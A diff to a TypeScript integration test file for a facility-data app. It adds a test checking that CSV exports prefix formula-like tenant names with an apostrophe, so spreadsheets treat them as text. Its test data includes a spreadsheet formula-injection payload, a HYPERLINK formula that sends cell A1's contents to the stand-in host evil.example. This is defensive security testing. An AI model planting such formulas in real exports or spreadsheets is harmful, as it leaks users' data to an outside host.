@@ -1,4 +1,5 @@
-import { mkdtempSync } from 'node:fs';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { parse } from 'csv-parse/sync';
 import os from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, expect, test } from 'vitest';
@@ -67,3 +68,23 @@ test('CSV export holds every matching row with its status', async () => {
   expect(csv.rows).toBe((await payments()).length);
   expect(csv.fileName).toMatch(/^integration-report-payments-all-\d{4}-\d{2}-\d{2}\.csv$/);
 });
+
+test('CSV export: tenant names that spreadsheets would run as formulas are written as text', async () => {
+  const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '+SUM(1,2)', '-2+3', '@SUM(1,2)'];
+  const dir = mkdtempSync(path.join(os.tmpdir(), 'formula-tenants-'));
+  const quote = (v: string) => `"${v.replaceAll('"', '""')}"`;
+  writeFileSync(path.join(dir, 'tenants.csv'), [
+    'tenant_id,location_id,name,updated_at',
+    ...names.map((n, i) => `T-EVIL-${i},LOC-SYD,${quote(n)},2025-01-05T10:15:00Z`),
+  ].join('\n'));
+  expect((await services.api.importFacilityData({ path: dir })).rejected).toEqual([]);
+  const { csv } = await call<{ csv: string }>('exportReportCsv', { kind: 'tenants', status: 'all' });
+  const rows = parse(csv, { columns: true }) as Array<{ record: string; tenant: string; external_id: string; amount: string }>;
+  const evil = rows.filter((r) => r.external_id.startsWith('T-EVIL-'));
+  expect(evil.map((r) => r.tenant).sort()).toEqual(names.map((n) => `'${n}`).sort());
+  expect(evil.every((r) => r.record === r.tenant)).toBe(true);
+  // Amounts are still plain numbers.
+  const { csv: paymentsCsv } = await call<{ csv: string }>('exportReportCsv', { kind: 'payments', status: 'all' });
+  expect((parse(paymentsCsv, { columns: true }) as Array<{ amount: string }>).every((r) => /^\d+\.\d{2}$/.test(r.amount))).toBe(true);
+});
+
